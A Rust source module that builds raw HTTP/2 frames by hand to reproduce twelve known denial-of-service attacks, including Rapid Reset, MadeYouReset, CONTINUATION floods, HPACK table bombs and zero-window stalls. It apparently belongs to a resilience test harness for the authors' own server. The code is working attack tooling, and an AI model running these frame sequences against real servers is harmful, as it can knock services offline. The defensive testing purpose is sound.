//! Attacks over HTTP/2 that no library of a client would carry out (N9): frames written by hand, and
//! what became of the connection.

mod attacker;
mod frames;

use frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS,
    UNKNOWN, fills_table, frame, head, mentions, setting, window,
};

pub use attacker::{Attacker, Outcome};

/// Frames that are sent at a time, if they are small.
const FRAMES_PER_ROUND: u32 = 64;

/// Requests that one connection of a hub may have open.
const STREAMS: u32 = 100;

/// The setting with the window of streams (RFC 9113, section 6.5.2).
const INITIAL_WINDOW: u16 = 4;

/// What an attacker does over and over again.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    /// Requests that are taken back before they are looked at (CVE-2023-44487).
    RapidReset,
    /// Requests that the hub has to take back, because the next frame breaks a rule (CVE-2025-8671).
    MadeYouReset,
    /// A head that never ends (CVE-2024-27316).
    Continuations,
    /// A body of nothing that never ends (CVE-2019-9518).
    EmptyData,
    /// Questions whether the hub is there (CVE-2019-9512).
    Pings,
    /// Settings that set nothing (CVE-2019-9515).
    Settings,
    /// Orders of streams (CVE-2019-9513).
    Priorities,
    /// Room for one byte more, that nobody needs.
    WindowUpdates,
    /// Frames that mean nothing.
    UnknownFrames,
    /// A large answer, taken byte by byte (CVE-2019-9511).
    Dribble,
    /// Heads of a few bytes that stand for many (HPACK bomb).
    HeaderTable,
    /// As many answers as there may be at a time, of which nothing is taken (CVE-2019-9517). It goes on for as
    /// long as the hub lets it.
    ZeroWindows,
}

impl Attack {
    /// All of them.
    pub const ALL: [Self; 12] = [
        Self::RapidReset,
        Self::MadeYouReset,
        Self::Continuations,
        Self::EmptyData,
        Self::Pings,
        Self::Settings,
        Self::Priorities,
        Self::WindowUpdates,
        Self::UnknownFrames,
        Self::Dribble,
        Self::HeaderTable,
        Self::ZeroWindows,
    ];

    /// Whether the attack is that nothing happens any more, so that there is no reason for the hub to end it.
    pub fn is_idle(self) -> bool {
        self == Self::ZeroWindows
    }

    /// The settings with which the connection begins.
    fn settings(self) -> Vec<u8> {
        match self {
            Self::Dribble | Self::ZeroWindows => setting(INITIAL_WINDOW, 0),
            _ => Vec::new(),
        }
    }

    /// What is sent once, for a large answer from this target.
    fn beginning(self, target: &str) -> Vec<u8> {
        match self {
            Self::Continuations => frame(HEADERS, END_STREAM, 1, &head("GET", "/healthz", &[])),
            Self::EmptyData => frame(HEADERS, END_HEADERS, 1, &post()),
            Self::Dribble => frame(
                HEADERS,
                END_STREAM | END_HEADERS,
                1,
                &head("GET", target, &[]),
            ),
            Self::ZeroWindows => {
                let get = |number| {
                    let head = head("GET", target, &[]);
                    frame(HEADERS, END_STREAM | END_HEADERS, 2 * number + 1, &head)
                };
                (0..STREAMS).flat_map(get).collect()
            }
            Self::HeaderTable => {
                let head = [head("GET", "/healthz", &[]), fills_table()].concat();
                frame(HEADERS, END_STREAM | END_HEADERS, 1, &head)
            }
            Self::RapidReset
            | Self::MadeYouReset
            | Self::Pings
            | Self::Settings
            | Self::Priorities
            | Self::WindowUpdates
            | Self::UnknownFrames => Vec::new(),
        }
    }

    /// What is sent in a round.
    fn round(self, number: u32) -> Vec<u8> {
        let streams = (number * FRAMES_PER_ROUND..).map(|stream| 2 * stream + 3);
        let frames = streams.take(FRAMES_PER_ROUND as usize);
        let one = |stream: u32| match self {
            Self::RapidReset => {
                let get = frame(
                    HEADERS,
                    END_STREAM | END_HEADERS,
                    stream,
                    &head("GET", "/healthz", &[]),
                );
                // `CANCEL`
                [get, frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())].concat()
            }
            Self::MadeYouReset => {
                let flags = END_STREAM | END_HEADERS;
                let get = frame(HEADERS, flags, stream, &head("GET", "/healthz", &[]));
                // More room than there can be.
                [get, window(stream, (1 << 31) - 1)].concat()
            }
            Self::Continuations => frame(CONTINUATION, 0, 1, b"\0\x01x\x01y"),
            Self::EmptyData => frame(DATA, 0, 1, b""),
            Self::Pings => frame(PING, 0, 0, &[7; 8]),
            Self::Settings => frame(SETTINGS, 0, 0, b""),
            Self::Priorities => frame(PRIORITY, 0, stream, &[0, 0, 0, 0, 16]),
            Self::WindowUpdates => window(0, 1),
            Self::UnknownFrames => frame(UNKNOWN, 0, 0, b""),
            Self::Dribble => window(1, 1),
            Self::HeaderTable | Self::ZeroWindows => Vec::new(),
        };
        match self {
            Self::HeaderTable => {
                let head = head("GET", "/healthz", &[]);
                let head = [head.clone(), mentions(&head)].concat();
                frame(HEADERS, END_STREAM | END_HEADERS, 2 * number + 3, &head)
            }
            _ => frames.flat_map(one).collect(),
        }
    }
}

/// The head of a publish whose body follows.
fn post() -> Vec<u8> {
    head(
        "POST",
        "/v1/events?userId=attacker",
        &[("content-type", "application/json")],
    )
}
